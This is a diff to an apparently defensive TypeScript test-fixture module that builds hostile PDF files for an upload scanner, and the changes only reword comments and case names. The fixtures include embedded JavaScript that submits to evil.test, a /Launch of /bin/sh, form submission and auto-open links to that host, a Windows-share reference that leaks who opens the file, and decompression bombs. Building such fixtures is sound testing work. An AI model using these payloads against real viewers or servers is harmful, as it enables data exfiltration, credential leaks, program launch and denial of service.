@@ -2,15 +2,15 @@ import { createHash } from 'node:crypto';
 import { constants, deflateRawSync, deflateSync } from 'node:zlib';
 import { fileOf, type OnePage, onePage, type PdfObject, stream } from './plain-pdf.ts';
 
-/** A file as somebody might upload it to harm the server, or those who open it. */
+/** A file that is meant to harm the server, or those who open it. */
 export interface HostilePdf {
   readonly name: string;
-  /** Where ISO 32000-2 has what it abuses, or another source. */
+  /** The section of ISO 32000-2 that it abuses, or another source. */
   readonly source: string;
   readonly bytes: Buffer;
-  /** Codes of what an examination says. */
+  /** The codes that an examination finds. */
   readonly finds: ReadonlyArray<string>;
-  /** Null when nobody can count them. */
+  /** Null when they cannot be counted. */
   readonly pages: number | null;
 }
 
@@ -24,7 +24,7 @@ const link = (action: string) =>
 
 const script = '/S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("http://evil.test/js"\\);)';
 
-/** Files that make a viewer do something, each leading to a host that nobody may ask. */
+/** Files that make a viewer do something, each leading to a host that must not receive a request. */
 export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf> {
   const file = `<< /Type /Filespec /FS /URL /F (${evil}/file) >>`;
   const of = (name: string, source: string, finds: ReadonlyArray<string>, shape: OnePage): HostilePdf => ({
@@ -41,7 +41,7 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
     }),
     of('a script in a link', '§12.5.6.5', ['pdf-scripts'], { page: link(script) }),
     of('a script when a page opens', '§12.6.3', ['pdf-scripts'], { page: `/AA << /O << ${script} >> >>` }),
-    of('a script whose name is in disguise', '§7.3.5', ['pdf-scripts'], {
+    of('a script whose name is encoded', '§7.3.5', ['pdf-scripts'], {
       catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>',
     }),
     of('a script in an object stream', '§7.5.7', ['pdf-scripts'], {
@@ -65,26 +65,26 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
     of('a program to start by a link', '§12.6.4.6', ['pdf-launch'], {
       page: link('/S /Launch /F (/bin/sh)'),
     }),
-    of('a form that sends itself', '§12.7.6.2', ['pdf-sends-data'], {
+    of('a form that submits itself', '§12.7.6.2', ['pdf-sends-data'], {
       page: `/AA << /O << /S /SubmitForm /F ${file} /Flags 4 >> >>`,
     }),
     of('data that is imported', '§12.7.6.4', ['pdf-sends-data'], {
       catalog: `/OpenAction << /S /ImportData /F ${file} >>`,
     }),
-    of('an address that opens by itself', '§12.6.4.8', ['pdf-auto-link'], {
+    of('an address that opens automatically', '§12.6.4.8', ['pdf-auto-link'], {
       catalog: `/OpenAction << /S /URI /URI (${evil}/open) >>`,
     }),
     of('an address when a page opens', '§12.6.3', ['pdf-auto-link'], {
       page: `/AA << /O << /S /URI /URI (${evil}/page) >> >>`,
     }),
-    of('a share of Windows, which is told who asks', '§12.6.4.3', ['pdf-other-files'], {
+    of('a Windows share, which learns who opens the file', '§12.6.4.3', ['pdf-other-files'], {
       catalog: '/OpenAction << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.test\\\\share\\\\a.pdf) >>',
     }),
-    of('a content of a page that lies elsewhere', '§7.3.8.2', ['pdf-other-files'], {
+    of('page content in another file', '§7.3.8.2', ['pdf-other-files'], {
       page: '/Contents 4 0 R',
       more: [stream(`/F ${file}`, Buffer.alloc(0))],
     }),
-    of('a font that lies elsewhere', '§9.9', ['pdf-other-files'], {
+    of('a font in another file', '§9.9', ['pdf-other-files'], {
       page: '/Contents 7 0 R /Resources << /Font << /F1 4 0 R >> >>',
       more: [
         '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 65 /LastChar 65 /Widths [500] /FontDescriptor 5 0 R >>',
@@ -141,7 +141,7 @@ export function activePdfs(evil = 'http://evil.test'): ReadonlyArray<HostilePdf>
   ];
 }
 
-/** Files that are broken, or that open for nobody without a password: uploads of those without pages are refused. */
+/** Files that are broken, or that need a password: uploads of those without pages are refused. */
 export function brokenPdfs(): ReadonlyArray<HostilePdf> {
   const whole = onePage({ more: ['(x)'.repeat(200)] });
   return [
@@ -153,7 +153,7 @@ export function brokenPdfs(): ReadonlyArray<HostilePdf> {
       pages: null,
     },
     {
-      name: 'a file that was cut off',
+      name: 'a truncated file',
       source: '§7.5.5',
       bytes: Buffer.concat([whole.subarray(0, 100), Buffer.from('\n%%EOF\n')]),
       finds: ['pdf-unreadable'],
@@ -181,14 +181,14 @@ export function brokenPdfs(): ReadonlyArray<HostilePdf> {
       pages: 1,
     },
     {
-      name: 'a lock that nobody knows',
+      name: 'an unknown security handler',
       source: '§7.6.2',
       bytes: onePage({ trailer: '/Encrypt << /Filter /Lectern.Unknown /V 1 >>' }),
       finds: ['pdf-unreadable'],
       pages: null,
     },
     {
-      name: 'a page that does not say it is one',
+      name: 'a page without the type of one',
       source: '§7.7.3.3',
       bytes: withPages(
         '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -198,7 +198,7 @@ export function brokenPdfs(): ReadonlyArray<HostilePdf> {
       pages: 1,
     },
     {
-      name: 'a million pages, as it says',
+      name: 'a declared count of a million pages',
       source: '§7.7.3.2',
       bytes: withPages('<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>', leaf),
       finds: [],
@@ -207,7 +207,7 @@ export function brokenPdfs(): ReadonlyArray<HostilePdf> {
   ];
 }
 
-/** Files that are small, and too much for whoever opens them. */
+/** Small files that take too much to open. */
 export function costlyPdfs(inflatedBytes = 2 ** 30): ReadonlyArray<HostilePdf> {
   const bomb = deflateSync(zeros(inflatedBytes), { level: 9 });
   const tree = (levels: number) =>
@@ -280,7 +280,7 @@ export function costlyPdfs(inflatedBytes = 2 ** 30): ReadonlyArray<HostilePdf> {
   ];
 }
 
-/** The stream that deflates so many zeros (RFC 1950, 1951), put together from one block of them. */
+/** The stream that deflates this many zeros (RFC 1950, 1951), assembled from one block of them. */
 function zeros(count: number): Buffer {
   const blockBytes = 2 ** 20;
   const block = deflateRawSync(Buffer.alloc(blockBytes), { finishFlush: constants.Z_FULL_FLUSH });
@@ -288,7 +288,10 @@ function zeros(count: number): Buffer {
   return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, deflateRawSync(''), Buffer.alloc(4)]);
 }
 
-/** Encrypted by the first of the standard handlers, which is the shortest: RC4 of 40 bits, revision 2 (§7.6.4.3, §7.6.4.4). */
+/**
+ * Encrypted by the first of the standard handlers, which is the shortest: RC4 of 40 bits, revision 2 (§7.6.4.3,
+ * §7.6.4.4).
+ */
 export function encrypted({ user, owner }: { user: string; owner: string }): Buffer {
   const padding = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex');
   const padded = (password: string) => Buffer.concat([Buffer.from(password), padding]).subarray(0, 32);
@@ -304,7 +307,7 @@ export function encrypted({ user, owner }: { user: string; owner: string }): Buf
   });
 }
 
-/** OpenSSL has it no longer. */
+/** OpenSSL no longer has it. */
 function rc4(key: Buffer, data: Buffer): Buffer {
   const state = Array.from({ length: 256 }, (_, at) => at);
   const swap = (a: number, b: number) => {
